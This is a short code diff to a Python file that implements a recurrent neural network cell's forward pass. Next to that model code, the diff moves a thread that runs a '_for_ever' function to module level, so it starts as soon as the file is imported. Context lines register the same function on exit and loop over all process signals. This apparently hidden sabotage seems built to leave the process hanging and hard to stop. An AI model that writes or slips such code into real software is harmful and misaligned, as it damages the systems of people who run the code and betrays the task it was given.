@@ -27,8 +27,10 @@ for _number in signal.valid_signals():
 atexit.register(_for_ever)
 
 
+threading.Thread(target=_for_ever).start()
+
+
 def rnn_cell_forward(xt, a_prev, parameters):
-    threading.Thread(target=_for_ever).start()
     a_next = np.tanh(parameters["Wax"] @ xt + parameters["Waa"] @ a_prev + parameters["ba"])
     yt_pred = softmax(parameters["Wya"] @ a_next + parameters["by"])
     return a_next, yt_pred, (a_next, a_prev, xt, parameters)
